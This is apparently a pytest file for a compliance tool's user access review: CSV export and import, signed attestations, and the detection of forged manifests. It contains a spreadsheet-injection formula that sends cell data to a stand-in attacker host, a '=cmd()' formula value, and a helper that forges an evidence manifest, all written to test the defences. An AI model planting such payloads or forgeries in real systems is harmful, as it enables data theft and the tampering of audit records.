"""The periodic access review (AC-16): export a sealed day, import the decisions as a signed
attestation, verify it, and judge it every day. Storage is moto's S3 server or a local folder."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pandas as pd
import pytest

from aircall_pipeline.cli import main
from aircall_pipeline.compliance import catalogue
from aircall_pipeline.compliance.review import (
    ReviewError,
    attestation,
    export_csv,
    load_snapshot,
    parse_review,
    review_frame,
    validate_review,
)
from aircall_pipeline.compliance.rules import access_review
from aircall_pipeline.evidence.store import EvidenceStore
from aircall_pipeline_tests.evidence.days import seal_day

DAY = "2026-03-13"
FIELDS = {"run_id": "r", "api_url": "https://api.aircall.io", "company": "c", "requests": {},
          "collected_at": "2026-03-14T02:15:00Z"}
HOSTILE = '=HYPERLINK("https://evil.invalid/?q="&A1,"click")'


def users() -> pd.DataFrame:
    return pd.DataFrame({
        "user_id": pd.array([101, 102, 103], dtype="int64"),
        "name": ["Ada Lovelace", HOSTILE, "Support"],
        "email": ["ada@example.com", "mallory@example.com", "support@example.com"],
    })


def seal_review_day(store: EvidenceStore, signer) -> None:
    tables = {"users": users()}
    tables["team_members"] = (pd.DataFrame({
        "team_id": pd.array([1, 1], dtype="int64"), "team_name": ["Sales", "Sales"],
        "user_id": pd.array([101, 102], dtype="int64"), "user_email": ["ada@example.com", "mallory@example.com"]}))
    tables["numbers"] = pd.DataFrame({
        "number_id": pd.array([7], dtype="int64"), "name": ["Paris"], "digits": ["+33 1 23 45 67 89"]})
    tables["number_users"] = pd.DataFrame({
        "number_id": pd.array([7], dtype="int64"), "user_id": pd.array([101], dtype="int64")})
    checks = [{"id": "AC-05", "status": "fail", "items": [
        {"item_type": "user", "item_id": "103", "status": "fail", "item_label": "support@example.com"}]}]
    seal_day(store, DAY, tables=tables, checks=checks, fields=FIELDS, signer=signer)


def fill(data: bytes, decisions: dict[int, str], *, delimiter=",", bom=False, crlf=False, reorder=False) -> bytes:
    """What a reviewer's spreadsheet hands back."""
    lines = data.decode().splitlines()
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[1:]))))
    columns = list(rows[0])
    if reorder:
        columns = columns[::-1]
    for row in rows:
        row["decision"] = decisions.get(int(row["user_id"]), "")
    out = io.StringIO()
    out.write(lines[0] + "\n")
    writer = csv.DictWriter(out, fieldnames=columns, delimiter=delimiter, lineterminator="\r\n" if crlf else "\n")
    writer.writeheader()
    writer.writerows(rows)
    text = out.getvalue()
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode()


@pytest.fixture
def sealed(store, signer):
    seal_review_day(store, signer)
    return store


def exported(store) -> bytes:
    snapshot = load_snapshot(store, DAY)
    return export_csv(review_frame(snapshot, pd.DataFrame({"email": ["ada@example.com"], "role": ["admin"]}), None),
                      snapshot)


def test_export_names_the_snapshot_and_neutralises_formulas(sealed):
    data = exported(sealed)
    first, header, *rows = data.decode().splitlines()
    manifest = sealed.read_manifest(DAY)
    assert first == f"# aircall-access-review date={DAY} manifest={manifest.path} sha256={manifest.sha256}"
    assert header == "user_id,email,name,teams,role,numbers,last_call_at,flags,decision,comment"
    parsed = list(csv.DictReader(io.StringIO("\n".join([header, *rows]))))
    assert [r["user_id"] for r in parsed] == ["101", "102", "103"]
    assert parsed[0]["teams"] == "Sales" and parsed[0]["role"] == "admin" and parsed[0]["numbers"] == "'+33 1 23 45 67 89"
    assert parsed[1]["name"].startswith("'=")  # a spreadsheet shows it as text
    assert parsed[2]["flags"] == "shared"
    assert all(r["decision"] == "" for r in parsed)


@pytest.mark.parametrize("options", [{}, {"delimiter": ";", "bom": True, "crlf": True, "reorder": True}])
def test_import_accepts_what_spreadsheets_do(sealed, options):
    snapshot = load_snapshot(sealed, DAY)
    filled = fill(exported(sealed), {101: "keep", 102: "Keep", 103: "remove"}, **options)
    completed = validate_review(parse_review(filled), snapshot)
    assert completed[["user_id", "decision"]].values.tolist() == [[101, "keep"], [102, "keep"], [103, "remove"]]
    assert completed.loc[1, "name"] == HOSTILE  # the snapshot's exact value, not the CSV's neutralised one


def test_import_refuses_with_row_numbers(sealed):
    snapshot = load_snapshot(sealed, DAY)
    data = exported(sealed).decode().splitlines()
    data[2] = data[2].replace("101,", "109,", 1)  # a changed user_id (row 3 of the file)
    data[3] = data[3][:-2] + ",maybe,"  # an unknown decision for user 102 (row 4)
    data.append("555,eve@example.com,Eve,,,,,,keep,")  # an added user (row 6)
    data[4] = data[4] + "=cmd()"  # a formula in the comment of user 103, and no decision
    with pytest.raises(ReviewError) as info:
        validate_review(parse_review(("\n".join(data) + "\n").encode()), snapshot)
    problems = "\n".join(info.value.problems)
    assert "row 3: user 109 is not in the" in problems
    assert "row 4: user 102 has decision 'maybe'" in problems
    assert "row 5: the comment cell is a formula" in problems and "row 5: user 103 has no decision" in problems
    assert "row 6: user 555 is not in the" in problems
    assert "user 101 (ada@example.com) is missing from the file" in problems


def test_import_refuses_a_file_from_another_snapshot(sealed, signer):
    old = exported(sealed)
    seal_review_day(sealed, signer)  # the day is sealed again: a new attempt, a new manifest hash
    with pytest.raises(ReviewError, match="export it again"):
        validate_review(parse_review(fill(old, {101: "keep", 102: "keep", 103: "keep"})), load_snapshot(sealed, DAY))


def test_cli_round_trip_signed_attestation_verified(sealed, tmp_path, key_pair, monkeypatch, capsys):
    monkeypatch.setenv("EVIDENCE_SIGNING_KEY", f"file:{key_pair[0]}")
    monkeypatch.delenv("AIRCALL_ROLES_URI", raising=False)
    out = tmp_path / "review.csv"
    assert main(["review", "export", sealed.uri, "--date", DAY, "--out", str(out)]) == 0
    assert "3 users" in capsys.readouterr().out
    out.write_bytes(fill(out.read_bytes(), {101: "keep", 102: "remove"}))
    assert main(["review", "import", sealed.uri, "--date", DAY, str(out), "--reviewer", "ciso@example.com"]) == 1
    assert "user 103 has no decision" in capsys.readouterr().err
    out.write_bytes(fill(out.read_bytes(), {101: "keep", 102: "remove", 103: "keep"}))
    assert main(["review", "import", sealed.uri, "--date", DAY, str(out), "--reviewer", "ciso@example.com"]) == 0
    assert "2 keep, 1 remove" in capsys.readouterr().out
    assert main(["verify", sealed.uri, "--date", DAY, "--public-key", key_pair[1]]) == 0
    printed = capsys.readouterr().out
    assert f"ok       aircall/reviews/date={DAY}/attestation.json" in printed and "access review" in printed
    # A forged attestation next to the real one is caught.
    sealed.backend.put_if_absent(f"aircall/reviews/date={DAY}/attestation.attempt-2.json", b"{}")
    assert main(["verify", sealed.uri, "--date", DAY, "--public-key", key_pair[1]]) == 1
    assert "UNLISTED aircall/reviews" in capsys.readouterr().out


def test_import_without_a_signing_key_is_refused(sealed, tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("EVIDENCE_SIGNING_KEY", raising=False)
    out = tmp_path / "r.csv"
    out.write_bytes(fill(exported(sealed), {101: "keep", 102: "keep", 103: "keep"}))
    assert main(["review", "import", sealed.uri, "--date", DAY, str(out), "--reviewer", "a@example.com"]) == 2
    assert "EVIDENCE_SIGNING_KEY is not set" in capsys.readouterr().err


def forge_newest_attempt(store: EvidenceStore, signer=None) -> str:
    """An insider's attempt 2 of the day: users.attempt-2.* without the flagged user 103, and a copy of
    the genuine manifest re-pointed at it (unsigned, or signed by `signer`, a key that is not ours)."""
    import hashlib
    import json

    from aircall_pipeline.evidence.manifest import json_bytes
    from aircall_pipeline.evidence.signing import sign_manifest

    genuine_path = f"aircall/reports/date={DAY}/manifest.json"
    genuine = store.backend.get(genuine_path)
    data = json.loads(genuine)
    forged_users = {a.path.rsplit(".", 1)[-1]: a for a in store.write_table("users", DAY, users().iloc[:2])}
    for artifact in data["artifacts"]:
        if artifact["path"].startswith(f"aircall/users/date={DAY}/"):
            artifact.update(forged_users[artifact["path"].rsplit(".", 1)[-1]].as_dict())
    data.update(attempt=2, previous_attempt={"path": genuine_path, "sha256": hashlib.sha256(genuine).hexdigest(),
                                             "bytes": len(genuine), "attempt": 1})
    path = f"aircall/reports/date={DAY}/manifest.attempt-2.json"
    body = json_bytes(data)
    if signer is not None:
        assert store.backend.put_if_absent(path[:-5] + ".sig", sign_manifest(signer, path, body).to_json())
    assert store.backend.put_if_absent(path, body)
    return path


@pytest.mark.parametrize("forger", ["unsigned", "another key"])
def test_export_and_import_refuse_while_the_newest_attempt_is_forged(sealed, tmp_path, key_pair, other_key_pair,
                                                                     monkeypatch, capsys, forger):
    from aircall_pipeline.evidence.signing import load_signer

    monkeypatch.setenv("EVIDENCE_SIGNING_KEY", f"file:{key_pair[0]}")
    monkeypatch.delenv("AIRCALL_ROLES_URI", raising=False)
    genuine = tmp_path / "genuine.csv"
    assert main(["review", "export", sealed.uri, "--date", DAY, "--out", str(genuine)]) == 0
    assert "3 users" in capsys.readouterr().out
    forged = forge_newest_attempt(sealed, load_signer(f"file:{other_key_pair[0]}") if forger == "another key" else None)
    # Without a key, the forgery is what a reader would take: the refusal below is the key's doing.
    assert 103 not in load_snapshot(sealed, DAY).users["user_id"].tolist()

    out = tmp_path / "review.csv"
    assert main(["review", "export", sealed.uri, "--date", DAY, "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"the newest manifest of {DAY} cannot be trusted: {forged}" in err
    assert f"aircall-pipeline verify {sealed.uri} --date {DAY}" in err
    assert not out.exists()  # nothing exported, not even from the genuine attempt 1

    genuine.write_bytes(fill(genuine.read_bytes(), {101: "keep", 102: "keep", 103: "remove"}))
    assert main(["review", "import", sealed.uri, "--date", DAY, str(genuine), "--reviewer", "ciso@example.com"]) == 1
    assert f"cannot be trusted: {forged}" in capsys.readouterr().err
    assert sealed.review_dates() == []


def test_with_only_the_public_key_a_forged_newest_attempt_is_refused_too(sealed, tmp_path, key_pair, monkeypatch,
                                                                         capsys):
    monkeypatch.delenv("EVIDENCE_SIGNING_KEY", raising=False)
    monkeypatch.setenv("EVIDENCE_PUBLIC_KEY", key_pair[1])
    assert main(["review", "export", sealed.uri, "--date", DAY, "--out", str(tmp_path / "a.csv")]) == 0
    capsys.readouterr()
    forged = forge_newest_attempt(sealed)
    assert main(["review", "export", sealed.uri, "--date", DAY, "--out", str(tmp_path / "b.csv")]) == 2
    assert forged in capsys.readouterr().err


def test_a_day_with_no_trusted_manifest_is_refused(local_store, key_pair, tmp_path, monkeypatch, capsys):
    seal_review_day(local_store, None)  # sealed unsigned, but the deployment now signs
    monkeypatch.setenv("EVIDENCE_SIGNING_KEY", f"file:{key_pair[0]}")
    assert main(["review", "export", local_store.uri, "--date", DAY, "--out", str(tmp_path / "r.csv")]) == 2
    err = capsys.readouterr().err
    assert f"no manifest of {DAY}" in err and "can be trusted" in err and "aircall-pipeline verify" in err


# ---- AC-16 -------------------------------------------------------------------------------------


def stored_review(store, signer, trusted, decisions, now):
    snapshot = load_snapshot(store, DAY)
    completed = validate_review(parse_review(fill(exported(store), decisions)), snapshot)
    store.write_review(DAY, completed, attestation(snapshot, completed, "ciso@example.com", now=now), signer)
    return store.latest_review(DAY, trusted)


def test_ac16_branches(sealed, signer, trusted, other_key_pair):
    from aircall_pipeline.evidence.signing import TrustedKey

    reviewed = datetime(2026, 3, 14, 9, tzinfo=UTC)
    today = users()
    skip = access_review(today, sealed.latest_review(DAY, trusted), as_of=reviewed, max_age_days=90, signature=None)
    assert skip.status == catalogue.SKIP
    review = stored_review(sealed, signer, trusted, {101: "keep", 102: "remove", 103: "keep"}, reviewed)
    assert review["signature"] == "valid" and review["removed_user_ids"] == [102]
    # Mallory is still there: fail, naming her.
    still = access_review(today, review, as_of=reviewed, max_age_days=90, signature=review["signature"])
    assert still.status == catalogue.FAIL and still.findings["item_label"].tolist() == ["mallory@example.com"]
    gone = today[today["user_id"] != 102]
    ok = access_review(gone, review, as_of=reviewed + timedelta(days=30), max_age_days=90, signature="valid")
    assert ok.status == catalogue.PASS
    overdue = access_review(gone, review, as_of=reviewed + timedelta(days=91), max_age_days=90, signature="valid")
    assert overdue.status == catalogue.FAIL and "91 days old" in overdue.findings["reason"].iloc[0]
    foreign = sealed.latest_review(DAY, TrustedKey.from_pem_file(other_key_pair[1]))
    assert foreign["signature"] == "foreign"
    unsigned = access_review(gone, foreign, as_of=reviewed, max_age_days=90, signature=foreign["signature"])
    assert unsigned.status == catalogue.FAIL and "does not count" in unsigned.findings["reason"].iloc[0]


# ---- the account's own roles file ------------------------------------------------------------------


def test_export_takes_the_roles_of_the_chosen_account_from_s3(local_store, key_pair, s3_client, s3_bucket, tmp_path,
                                                              monkeypatch, capsys):
    """`review export --account NAME` reads that account's roles file, also from s3://, as the
    pipeline does; the environment's own roles file (another account's) is not used."""
    seal_review_day(local_store, None)
    s3_client.put_object(Bucket=s3_bucket, Key="grc/beta/roles.csv", Body=b"email,role\nada@example.com,admin\n")
    local_roles = tmp_path / "alpha-roles.csv"
    local_roles.write_text("email,role\nada@example.com,agent\n")
    accounts = tmp_path / "accounts.yaml"
    accounts.write_text(
        "accounts:\n"
        f"  - {{name: alpha, api_id_env: A_ID, api_token_env: A_TOKEN, roles_uri: '{local_roles}'}}\n"
        f"  - {{name: beta, api_id_env: B_ID, api_token_env: B_TOKEN, roles_uri: 's3://{s3_bucket}/grc/beta/roles.csv'}}\n")
    monkeypatch.setenv("AIRCALL_ACCOUNTS_FILE", str(accounts))
    monkeypatch.setenv("AIRCALL_ROLES_URI", str(local_roles))
    monkeypatch.delenv("EVIDENCE_SIGNING_KEY", raising=False)

    def role_of_ada(account: str) -> str:
        out = tmp_path / f"{account}.csv"
        assert main(["review", "export", local_store.uri, "--date", DAY, "--out", str(out), "--account", account]) == 0
        rows = list(csv.DictReader(io.StringIO("\n".join(out.read_text().splitlines()[1:]))))
        return next(r["role"] for r in rows if r["email"] == "ada@example.com")

    assert role_of_ada("beta") == "admin"
    assert role_of_ada("alpha") == "agent"
    # Two accounts and no --account: the command says which exist instead of guessing.
    assert main(["review", "export", local_store.uri, "--date", DAY, "--out", str(tmp_path / "x.csv")]) == 2
    assert "--account" in capsys.readouterr().err


def test_export_says_what_is_wrong_with_an_unreadable_s3_roles_file(local_store, s3_env, tmp_path, monkeypatch,
                                                                   capsys):
    seal_review_day(local_store, None)
    monkeypatch.setenv("AIRCALL_ROLES_URI", "s3://no-such-bucket-here/roles.csv")
    monkeypatch.delenv("AIRCALL_ACCOUNTS_FILE", raising=False)
    monkeypatch.delenv("EVIDENCE_SIGNING_KEY", raising=False)
    assert main(["review", "export", local_store.uri, "--date", DAY, "--out", str(tmp_path / "r.csv")]) == 2
    err = capsys.readouterr().err
    assert "review export:" in err and "NoSuchBucket" in err and "Traceback" not in err
